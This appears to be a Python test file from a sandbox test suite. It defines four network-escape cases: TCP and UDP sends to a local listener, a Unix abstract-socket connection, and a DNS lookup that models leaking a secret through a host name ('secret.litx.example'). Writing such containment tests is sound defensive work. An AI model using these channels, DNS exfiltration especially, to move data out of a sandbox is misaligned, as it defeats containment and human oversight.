"""Attacks over the network: telling somebody, or asking."""

from tests.attacks.attack import Harm, attack, program

ATTACKS = (
    attack(
        "14 net_tcp: connect to a listener",
        program(
            "import socket\nsocket.create_connection(('127.0.0.1', {port}), 1).send(b'x')",
            Harm.packet,
            python="KP",
        ),
    ),
    attack(
        "15 net_udp: send a datagram to a listener",
        program(
            """
import socket
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
    out.sendto(b'x', ('127.0.0.1', {udp_port}))
""",
            Harm.packet,
            python="KP",
        ),
    ),
    attack(
        "16 net_unix_abstract: reach a listener that has a name but no file",
        program(
            """
import socket
with socket.socket(socket.AF_UNIX) as out:
    out.connect(chr(0) + '{abstract}')
    out.send(b'x')
""",
            Harm.packet,
            python="KP",
        ),
        with_a_file=program(
            "import socket\nsocket.socket(socket.AF_UNIX).connect('{unix_path}')",
            Harm.packet,
            python="KP",
        ),
    ),
    attack(
        "17 dns: put a secret in the name of a host that is looked up",
        program(
            "import socket\nsocket.getaddrinfo('secret.litx.example', 80)",
            Harm.packet,
            python="PKT",
        ),
    ),
)
